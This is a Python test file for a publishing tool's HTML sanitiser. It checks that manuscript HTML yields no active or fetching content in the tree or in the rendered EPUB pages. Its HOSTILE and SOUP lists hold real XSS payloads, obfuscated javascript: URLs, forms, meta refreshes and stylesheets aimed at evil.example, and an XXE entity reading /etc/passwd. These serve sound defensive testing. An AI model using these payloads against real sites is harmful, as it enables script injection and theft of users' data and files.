"""Raw HTML of whoever wrote it: nothing that acts, fetches or frames gets into a tree, and pages stay well-formed."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from manuscripts import project, read_texts

from publish.diagnostics import Log
from publish.document import HtmlBlock, Image, InlineHtml, InlineImage, Link, Publication, walk
from publish.reader import read
from publish.reader.htmltags import BLOCKS, INLINES
from publish.reader.targets import scheme
from publish.renderer import render

# What has been used against others: each is told, and nothing of it acts.
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<img src="jav&#x09;ascript:alert(1)" alt="">',
    '<img src="data:text/html,x" alt="">',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="JaVaScRiPt:alert(1)">a</a>',
    '<a href="java\nscript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="\u00a0javascript:alert(1)">a</a>',
    '<a href="vbscript:x">a</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">a</a>',
    '<a href="https://example.org" onclick="x()" style="position:fixed">a</a>',
    "[a](javascript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "![a](vbscript:x)",
    '<b onmouseover="x()">b</b>',
    '<b/onclick="x()">b</b>',
    "<div style=\"background:url('javascript:x')\">\n\nx\n\n</div>",
    '<div onload="x()">\n\nx\n\n</div>',
    '<iframe src="https://example.org"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="x()">',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<form action="https://evil.example"><input name="a"><button>b</button></form>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<textarea></textarea><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->\n\n<?xml-stylesheet href='x'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n\n&x;<b onclick=x>b</b>',
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<audio src="https://evil.example/x.mp3"></audio>',
    '<a href="file:///etc/passwd">a</a>',
    '<details ontoggle="x()" open>\n<summary>s</summary>\n</details>',
    '<td background="javascript:x">\n',
    '<p xmlns:x="y" x:onclick="z">p</p>',
]
# What looks like it, and is words or a file's name.
HARMLESS = [
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=`javascript:alert(1)`>",
    '<img src=" &#14;  javascript:alert(1)" alt="">',
]
_DANGEROUS = {"javascript", "vbscript", "data", "file", "livescript", "blob", "about"}
_ATTRIBUTES = re.compile(r"class|title|dir|name|cite|datetime|open|start|reversed|type|value|colspan|rowspan|scope")


def acting(publication: Publication) -> list[str]:
    """Give whatever in a tree could act, fetch or frame."""
    found: list[str] = []
    for node in walk(publication):
        if isinstance(node, HtmlBlock | InlineHtml):
            found += [node.tag] if node.tag not in INLINES | BLOCKS else []
            found += [f"{node.tag} {key}" for key, _ in node.attributes if not _ATTRIBUTES.fullmatch(key)]
        elif isinstance(node, Link | InlineImage | Image):
            target = node.target if isinstance(node, Link) else node.path
            found += [target] if scheme(target) in _DANGEROUS else []
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_what_acts_is_told_and_is_not_in_the_tree(text: str) -> None:
    publication, log = read_texts(f"Before.\n\n{text}\n\nAfter.")
    assert acting(publication) == []
    assert {"html-safe"} & {d.rule.name for d in log}
    assert "After." in str(publication)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_only_looks_like_it_does_nothing(text: str) -> None:
    publication, _ = read_texts(f"Before.\n\n{text}\n\nAfter.")
    assert acting(publication) == []


def test_its_pages_are_well_formed_and_hold_none_of_it() -> None:
    one = project("\n\n".join(f"Before. {text}\n\n{text}\n\nAfter." for text in (*HOSTILE, *HARMLESS)))
    log = Log()
    publication = read(one, Log())
    rendition = render(_without_pictures(publication), one, {}, "epub", datetime(2026, 1, 1, tzinfo=UTC), log)
    assert rendition is not None and not log.failed
    for part in rendition.parts:
        for element in etree.fromstring(part.xhtml.encode()).iter():
            name = etree.QName(element).localname if isinstance(element.tag, str) else "comment"
            assert name not in {
                "script",
                "iframe",
                "object",
                "embed",
                "form",
                "input",
                "base",
                "video",
                "audio",
                "comment",
            }
            assert [key for key in element.attrib if str(key).lower().startswith("on") or key == "style"] == []
            for key in ("href", "src"):
                assert scheme(str(element.get(key, ""))) not in _DANGEROUS


def _without_pictures(publication: Publication) -> Publication:
    """Take the pictures away, which would have to be there to be shown."""
    for node in walk(publication):
        if hasattr(node, "content"):
            object.__setattr__(node, "content", tuple(c for c in node.content if not isinstance(c, InlineImage)))
        if hasattr(node, "blocks"):
            kept = tuple(b for b in node.blocks if type(b).__name__ != "Figure")
            object.__setattr__(node, "blocks", kept)
    return publication


SOUP = [
    "<b>",
    "</b>",
    "<div>",
    "</div>",
    "<script>",
    "</script>",
    "<a href='javascript:x'>",
    "</a>",
    "<img onerror=x src=x>",
    "x",
]
SOUP += [
    "<p>",
    "</p>",
    "\n",
    "\n\n",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<",
    ">",
    "'",
    '"',
    "`",
    "*",
    "[",
    "](javascript:y)",
]
SOUP += [
    "<td>",
    "<table>",
    "</table>",
    "<li>",
    "<pre>",
    "</pre>",
    "<style>",
    "</style>",
    "<details open>",
    "> ",
    "- ",
    "&lt;",
    "\\",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(SOUP), max_size=30).map("".join))
def test_no_soup_of_tags_acts(text: str) -> None:
    publication, _ = read_texts(text)
    assert acting(publication) == []
